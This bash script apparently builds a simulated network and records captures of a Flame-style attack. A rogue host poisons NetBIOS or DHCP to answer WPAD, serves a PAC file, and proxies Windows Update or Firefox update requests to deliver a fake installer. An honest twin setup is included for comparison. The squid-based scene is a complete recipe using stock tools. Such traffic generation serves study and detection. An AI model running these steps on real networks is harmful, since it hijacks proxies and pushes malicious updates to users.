#!/usr/bin/env bash
# Records the whole way from a false answer for wpad to a program in place of an update, into captures/updates. Usage: flame.sh [SCENE...].
# Packages: lab.sh's, and dnsmasq-base isc-dhcp-client bind9-dnsutils samba-common-bin nginx-light curl squid openssl osslsigncode python3 python3-scapy samba.
. "$(dirname "$0")/lab.sh"

AGENT='Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50'
python() { local name=$1 script=$2; shift 2; daemon "$name" /usr/bin/python3 "$make_dir/$script" "$@"; }
# netbios_wpad HOST: what Windows asks when DNS knows no wpad.
netbios_wpad() { try "$1" timeout 4 nmblookup -s /dev/null -B 10.7.0.255 WPAD; }
# configure HOST URL [CURL-OPTIONS...]: fetches the PAC and keeps the proxy it names, as the client would use it.
configure() {
  local name=$1 url=$2; shift 2
  proxy=$(on "$name" curl -s -m 4 -A 'WinHttp-Autoproxy-Service/5.1' "$@" "$url" | sed -n 's/.*PROXY \([0-9.]*:[0-9]*\).*/\1/p' | tail -1)
}
# update HOST URL...: update requests through that proxy.
update() { local name=$1 url; shift; for url; do try "$name" curl -s -m 4 -o /dev/null -A "$AGENT" -x "http://$proxy" ${logon:+--proxy-ntlm -U "$logon"} "$url"; done; }

# SNACK answers the broadcast for WPAD, MUNCH serves wpad.dat, the proxy answers Windows Update's questions, GADGET delivers WuSetupV.exe to one of the two.
scene_flame_replication() {
  lab_host gw 3c:52:82:11:00:01 10.7.0.1/24
  lab_host pc 3c:52:82:11:00:21 10.7.0.21/24
  lab_host lap 3c:52:82:11:00:22 10.7.0.22/24
  lab_host rogue 00:0c:29:6e:00:66 10.7.0.66/24
  python3 "$make_dir/flame_files.py" "$lab_tmp/files"
  python rogue poisoner.py 10.7.0.66 --only wpad
  python rogue update_proxy.py 80 "$lab_tmp/files" 10.7.0.66:8080
  python rogue update_proxy.py 8080 "$lab_tmp/files"
  pause 1.5; record_start
  netbios_wpad pc
  configure pc http://wpad/wpad.dat --resolve wpad:80:10.7.0.66
  update pc http://download.windowsupdate.com/v9/windowsupdate/redir/muv4wuredir.cab http://update.microsoft.com/v9/windowsupdate/selfupdate/wuident.cab \
    http://download.windowsupdate.com/v9/windowsupdate/selfupdate/wusetup.cab http://download.windowsupdate.com/v9/windowsupdate/a/selfupdate/WuSetupV.exe
  pause 1
  netbios_wpad lap
  configure lap http://wpad/wpad.dat --resolve wpad:80:10.7.0.66
  update lap http://download.windowsupdate.com/v9/windowsupdate/redir/muv4wuredir.cab
}

# The same way with nothing of Flame in it: DHCP option 252 lures, the PAC lies on port 8888 under another name, the proxy on a third machine wants a
# log-in before it hands out another vendor's update.
scene_flame_by_dhcp() {
  lab_host gw 3c:52:82:11:00:01 10.7.0.1/24
  lab_host pc 3c:52:82:11:00:21
  lab_host rogue 00:0c:29:6e:00:66 10.7.0.66/24
  lab_host third 00:0c:29:6e:00:77 10.7.0.77/24
  dns_dhcp gw --dhcp-range=10.7.0.100,10.7.0.120,1h --domain=corp.example
  python3 "$make_dir/flame_files.py" "$lab_tmp/files"
  python rogue dhcp_spoofer.py 10.7.0.1 10.7.0.66 http://10.7.0.66:8888/c/settings.pac
  python rogue update_proxy.py 8888 "$lab_tmp/files" 10.7.0.77:3129
  python third update_proxy.py 3129 "$lab_tmp/files" --ntlm
  pause 1.5; record_start
  lease pc
  try pc ip addr add 10.7.0.21/24 dev eth0
  configure pc http://10.7.0.66:8888/c/settings.pac
  logon='CORP\alice:correct-horse'
  update pc http://aus5.mozilla.org/update/6/Firefox/128.0/update.xml http://download.mozilla.org/pub/firefox/Setup.exe
}

# The same services on one honest machine: wpad by DHCP and DNS, PAC, squid, and a WSUS server.
scene_flame_twin() {
  lab_host gw 3c:52:82:11:00:01 10.7.0.1/24
  lab_host pc 3c:52:82:11:00:21
  lab_host lap 3c:52:82:11:00:22
  lab_host site 00:11:32:aa:00:08 10.7.0.8/24
  lab_host cdn 00:1b:54:00:00:fe 203.0.113.10/24
  on cdn ip route add 10.7.0.0/24 dev eth0; on site ip route add 203.0.113.0/24 dev eth0
  dns_dhcp gw --dhcp-range=10.7.0.100,10.7.0.120,1h --domain=corp.example --dhcp-option=252,http://wpad.corp.example/wpad.dat \
    --address=/wpad.corp.example/10.7.0.8 --address=/wsus.corp.example/10.7.0.8 --address=/windowsupdate.com/203.0.113.10
  mkdir -p "$lab_tmp/www"
  pac "$lab_tmp/www/wpad.dat" 10.7.0.8:3128; web site "$lab_tmp/www"
  squid_on site site.corp.example "dns_nameservers 10.7.0.1"
  python site wsus_server.py 8530 honest
  python cdn update_server.py 80 file
  pause 2; record_start
  local name action
  for name in pc lap; do
    lease "$name"
    try "$name" dig +tries=1 +time=1 @10.7.0.1 wpad.corp.example
    configure "$name" http://wpad.corp.example/wpad.dat --resolve wpad.corp.example:80:10.7.0.8
    update "$name" http://download.windowsupdate.com/v9/windowsupdate/redir/muv4wuredir.cab
    for action in GetConfig GetCookie SyncUpdates GetExtendedUpdateInfo; do
      try "$name" curl -s -m 4 -o /dev/null -A "$AGENT" -H 'Content-Type: text/xml; charset=utf-8' -x "http://$proxy" -d '<soap:Envelope/>' \
        -H "SOAPAction: \"http://www.microsoft.com/SoftwareDistribution/Server/ClientWebService/$action\"" http://wsus.corp.example:8530/ClientWebService/client.asmx
    done
  done
}

# squid_on HOST NAME [LINE...]: squid on 3128.
squid_on() {
  local name=$1 visible=$2; shift 2
  mkdir -p "$lab_tmp/squid"; chmod 777 "$lab_tmp" "$lab_tmp/squid"; : >"$lab_tmp/squid/mime"
  printf '%s\n' "http_port 3128" "pid_filename $lab_tmp/squid/pid" "cache_log $lab_tmp/squid/log" "access_log none" "cache deny all" "coredump_dir $lab_tmp/squid" \
    "shutdown_lifetime 1 seconds" "visible_hostname $visible" "pinger_enable off" "netdb_filename none" "mime_table $lab_tmp/squid/mime" "$@" \
    "http_access allow all" >"$lab_tmp/squid/conf"
  daemon "$name" squid -N -f "$lab_tmp/squid/conf"
}

# Packaged programs alone: Samba owns WPAD, nginx serves the PAC and the "update", squid is the proxy that takes the update host for its own machine.
scene_flame_by_squid() {
  lab_host gw 3c:52:82:11:00:01 10.7.0.1/24
  lab_host pc 3c:52:82:11:00:21 10.7.0.21/24
  lab_host rogue 00:0c:29:6e:00:66 10.7.0.66/24
  local www="$lab_tmp/www" path=v9/windowsupdate/a/selfupdate
  python3 "$make_dir/flame_files.py" "$lab_tmp/files"
  mkdir -p "$www/$path"; cp "$lab_tmp/files/"* "$www/$path"
  pac "$www/wpad.dat" 10.7.0.66:3128; web rogue "$www"
  printf '10.7.0.66 download.windowsupdate.com\n' >"$lab_tmp/squid.hosts"
  squid_on rogue proxy "hosts_file $lab_tmp/squid.hosts"
  pause 2; record_start
  netbios rogue WPAD
  pause 8
  netbios_wpad pc
  configure pc http://wpad/wpad.dat --resolve wpad:80:10.7.0.66
  update pc http://download.windowsupdate.com/$path/wuident.cab http://download.windowsupdate.com/$path/WuSetupV.exe
  pause 1
}

run_scenes updates "$@"
